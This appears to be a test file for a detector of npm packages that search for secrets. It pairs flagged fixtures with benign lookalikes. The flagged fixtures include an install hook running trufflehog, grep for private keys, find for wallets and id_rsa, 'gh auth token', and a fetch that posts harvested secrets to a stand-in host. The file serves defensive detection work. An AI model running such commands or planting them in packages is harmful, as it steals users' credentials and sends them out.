import { examine } from '../../../test/examine.ts';
import { searchesForSecrets } from './searches-for-secrets.ts';

const CP = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');`;
const hook = (command: string): object => ({ name: 'specimen', scripts: { postinstall: command } });

examine(searchesForSecrets, {
  speaks: [
    {
      when: 'a scanner is started at install',
      files: { 'package.json': hook('trufflehog filesystem / --json') },
      weight: 'strong',
      says: ['scanner'],
    },
    {
      when: 'from a folder of its own',
      files: { 'index.js': `${CP} cp.spawn('/tmp/inert/trufflehog', ['filesystem', os.homedir(), '--json'])` },
      weight: 'strong',
    },
    {
      when: 'grep looks for keys',
      files: { 'index.js': `${CP} cp.execSync('grep -r "BEGIN RSA PRIVATE" ~')` },
      weight: 'strong',
      says: ['searches files'],
    },
    { when: 'find looks for wallets', files: { 'index.js': `${CP} cp.exec('find ~ -name "*wallet*" -o -name id_rsa')` }, weight: 'strong' },
    {
      when: 'a command is asked for its token',
      files: { 'index.js': `${CP} cp.execSync('gh auth token')` },
      weight: 'strong',
      says: ['tokens'],
    },
    {
      when: 'a call sends the lines of a command that hold a secret',
      files: {
        'index.js': `${CP} exports.note = () => { const out = cp.execSync('cat /inert/memory | grep -aoE "isSecret.:true" | sort -u').toString(); return fetch('https://notes.invalid/', { method: 'POST', body: out }); }`,
      },
      weight: 'strong',
      says: ['notes.invalid'],
    },
  ],
  silent: [
    {
      when: 'a call sends the lines of a command that hold its version',
      files: {
        'index.js': `${CP} exports.note = () => fetch('https://notes.invalid/', { method: 'POST', body: cp.execSync('node -p process.versions | grep v8').toString() })`,
      },
    },
    {
      when: 'what a scan of the project finds goes where its user says',
      files: {
        'index.js': `${CP} exports.scan = where => fetch(where, { method: 'POST', body: cp.execSync('git diff | grep -iE "secret|token="').toString() })`,
      },
    },
    {
      when: 'grep looks for something else',
      files: { 'index.js': `${CP} cp.execSync('grep -r TODO src'); cp.execSync('find . -name "*.js"')` },
    },
    {
      when: 'a command is asked who it is',
      files: { 'index.js': `${CP} cp.execSync('gh auth status'); cp.execSync('aws sts get-caller-identity')` },
    },
  ],
});
